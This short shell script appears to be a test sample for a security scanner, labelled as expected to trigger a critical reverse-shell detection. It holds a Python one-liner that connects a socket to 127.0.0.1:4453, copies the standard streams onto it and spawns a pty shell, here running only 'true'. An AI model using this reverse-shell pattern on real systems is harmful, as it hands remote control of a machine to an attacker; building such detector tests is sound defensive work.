#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: a shell on a terminal that the connection is copied to, as pty.spawn does
# expect: reverse-shell critical
# listen: 127.0.0.1:4453
# needs: /usr/bin/python3
/usr/bin/python3 -c 'import os, pty, socket
s = socket.create_connection(("127.0.0.1", 4453))
for n in 0, 1, 2: os.dup2(s.fileno(), n)
pty.spawn(["/bin/sh", "-c", "true"])'
